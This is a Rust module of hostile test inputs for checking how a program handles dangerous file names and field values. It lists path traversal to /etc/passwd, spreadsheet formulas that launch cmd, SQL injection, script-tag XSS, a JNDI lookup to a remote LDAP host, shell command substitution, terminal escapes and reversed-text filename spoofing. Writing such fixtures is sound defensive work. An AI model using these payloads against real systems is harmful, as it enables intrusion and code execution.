//! Which words would harm whoever takes them for a path, a command, a line or a page?

use std::ffi::OsString;
use std::os::unix::ffi::OsStringExt as _;

/// A word that means harm, and what it is.
pub struct Word {
    pub what: &'static str,
    pub text: &'static str,
}

impl Word {
    /// As it is written in XML, so that a reader sees the word itself.
    pub fn in_xml(&self) -> String {
        let write = |c: char| match c {
            '<' => "&lt;".to_owned(),
            '>' => "&gt;".to_owned(),
            '&' => "&amp;".to_owned(),
            '"' => "&quot;".to_owned(),
            c if c.is_control() => format!("&#{};", u32::from(c)),
            c => c.to_string(),
        };
        self.text.chars().map(write).collect()
    }
}

macro_rules! words {
    ($($what:literal: $text:expr,)+) => { &[$(Word { what: $what, text: $text }),+] };
}

/// Words that XML can hold.
pub const WORDS: &[Word] = words! {
    "a climb": "../../../../etc/cron.d/x",
    "a climb on Windows": "..\\..\\x",
    "a root": "/etc/passwd",
    "a drive": "C:\\x",
    "a share": "\\\\192.0.2.1\\share\\x",
    "a stream": "x.pdf:evil.exe",
    "a device": "NUL",
    "a device with a tail": "con.pdf",
    "a port": "COM1",
    "turned writing": "invoice\u{202e}fdp.exe",
    "turned writing, isolated": "a\u{2066}b\u{2069}c\u{61c}d\u{200f}",
    "dots": "....",
    "one dot": ".",
    "spaces": "a   ",
    "look-alikes of a slash": "..\u{2215}..\u{2044}..\u{ff0f}x\u{29f8}",
    "full-width dots": "\u{ff0e}\u{ff0e}/\u{2025}/x",
    "lines": "F-1\n2026-03-14T08:00:00Z ERROR all is lost\r\n",
    "separators of lines": "F-1\u{2028}ERROR\u{2029}\u{85}ERROR",
    "a terminal's": "\u{9b}2J\u{9d}0;owned\u{9c}",
    "a formula": "=cmd|' /C calc'!A0",
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a signed formula": "+1-2|x",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "the end of JSON": "\"},\"kind\":\"invoice\",{\"",
    "the end of a statement": "'); drop table document; --",
    "a lookup": "${jndi:ldap://192.0.2.1/x}",
    "a command": "$(touch /tmp/sluis-was-here)`id`;|&",
    "an option": "--config=/dev/null",
    "a template": "{seq}{dossier_code}{{}}%s%n",
    "invisible": "\u{200b}\u{feff}\u{ad}\u{2060}",
    "tags": "t\u{e0041}\u{e007f}",
    "marks": "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "noncharacters": "a\u{fffd}b\u{f8ff}",
    "long": LONG,
};

/// Four hundred letters.
const LONG: &str = "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\
xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\
xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\
xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx";

/// Names that a disk can have, each ending in `.xml` so that it is no temporary file.
pub fn files() -> Vec<OsString> {
    let mut names: Vec<OsString> = WORDS
        .iter()
        .filter(|word| word.text.len() < 200)
        .map(|word| format!("x{}.xml", word.text.replace('/', "\u{2215}")).into())
        .collect();
    names.extend(
        [
            "CON.xml",
            "nul.xml",
            "x..xml.xml",
            "C:\\x.xml",
            "-rf.xml",
            "=1+1.xml",
            " .xml",
            "a\u{7}\u{1b}]0;owned\u{7}.xml",
        ]
        .map(OsString::from),
    );
    names.push(format!("{}.xml", "é".repeat(125)).into());
    names.push(OsString::from_vec(b"factur\xe9.xml".to_vec()));
    names.push(OsString::from_vec(b"\xff\xfe\xc0\xaf.xml".to_vec()));
    names
}
